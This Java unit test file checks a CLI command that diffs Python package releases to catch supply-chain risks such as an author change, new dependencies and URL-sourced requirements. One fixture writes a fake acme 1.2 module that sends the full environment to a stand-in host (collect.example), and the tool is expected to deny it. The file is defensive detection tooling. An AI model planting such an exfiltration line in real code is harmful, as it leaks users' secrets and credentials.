package dev.assay.cli.command;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.cli.Run;
import dev.assay.core.document.Node;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DiffCommandTest {
  @TempDir private Path home;
  @TempDir private Path folder;

  @BeforeEach
  void writeReleases() throws IOException {
    write("acme-1.0/acme/__init__.py", "VERSION = '1.0'\n");
    write("acme-1.1/acme/__init__.py", "VERSION = '1.1'\n");
    write("acme-1.1/acme/more.py", "def more():\n    return 1\n");
    write(
        "acme-1.2/acme/__init__.py",
        """
        import os, urllib.request
        VERSION = '1.2'
        urllib.request.urlopen("https://collect.example/in", str(dict(os.environ)).encode())
        """);
  }

  @Test
  void anUpgradeThatGainsATheftIsDenied() {
    Run run = diff("acme-1.0", "acme-1.2");
    assertThat(run.code()).isEqualTo(1);
    assertThat(run.out())
        .contains("deny", "environment-exfiltration")
        .contains("gained   import: sends https://collect.example/in");
  }

  @Test
  void anUpgradeThatGainsNothingIsAdmitted() {
    Run run = diff("--format", "json", "acme-1.0", "acme-1.1");
    assertThat(run.code()).isZero();
    Node change = run.objects().getFirst();
    assertThat(change.array("gained")).isEmpty();
    assertThat(change.array("added").stream().map(it -> it.asText().orElseThrow()))
        .containsExactly("acme/more.py");
  }

  @Test
  void whatTheEarlierReleaseDidAlreadyIsNoGain() {
    assertThat(diff("acme-1.2", "acme-1.2").code()).isZero();
    Run run = diff("--format", "json", "acme-1.2", "acme-1.1");
    assertThat(run.code()).isZero();
    assertThat(run.objects().getFirst().array("lost")).isNotEmpty();
  }

  @Test
  void pairsComeFromStandardInput() {
    Run run =
        Run.fed(
            "acme-1.0\tacme-1.1\nacme-1.0\tabsent.whl\n",
            folder,
            home,
            Map.of(),
            "diff",
            "--format",
            "json",
            "-");
    assertThat(run.code()).isEqualTo(3);
    assertThat(run.objects())
        .extracting(change -> change.text("verdict").orElseThrow())
        .containsExactly("admit", "hold");
  }

  @Test
  void anotherPublisherAndNewRequirementsAreTold() throws IOException {
    String metadata = "Metadata-Version: 2.1\nName: acme\nVersion: %s\nAuthor: %s\n%s";
    write("acme-1.0/PKG-INFO", metadata.formatted("1.0", "Alice", "Requires-Dist: six\n"));
    write(
        "acme-1.1/PKG-INFO",
        metadata.formatted("1.1", "Mallory", "Requires-Dist: six\nRequires-Dist: colour-fast\n"));
    write("acme-1.1/src/acme.egg-info/entry_points.txt", "[console_scripts]\nacme = acme:run\n");
    Run run = diff("--explain", "acme-1.0", "acme-1.1");
    assertThat(run.code()).isZero();
    assertThat(run.out())
        .contains("`author` was `Alice` and is `Mallory`", "the upgrade needs `colour-fast` now")
        .contains("metadata requires-dist: now colour-fast")
        .contains("metadata entry-point: now [console_scripts] acme = acme:run")
        .contains("added    acme/more.py");
  }

  @Test
  void aRequirementFromAnAddressIsHeld() throws IOException {
    write("acme-1.0/PKG-INFO", "Name: acme\nVersion: 1.0\n");
    write(
        "acme-1.1/PKG-INFO",
        "Name: acme\nVersion: 1.1\nRequires-Dist: six @ https://files.example/six.zip\n");
    Run run = diff("acme-1.0", "acme-1.1");
    assertThat(run.code()).isEqualTo(1);
    assertThat(run.out()).contains("hold", "https://files.example/six.zip");
  }

  @Test
  void twoArtifactsAreCompared() {
    assertThat(diff("acme-1.0").code()).isEqualTo(2);
  }

  private Run diff(String... more) {
    String[] arguments = new String[more.length + 1];
    arguments[0] = "diff";
    System.arraycopy(more, 0, arguments, 1, more.length);
    return Run.in(folder, home, arguments);
  }

  private void write(String name, String text) throws IOException {
    Path file = folder.resolve(name);
    Files.createDirectories(file.getParent());
    Files.writeString(file, text);
  }
}
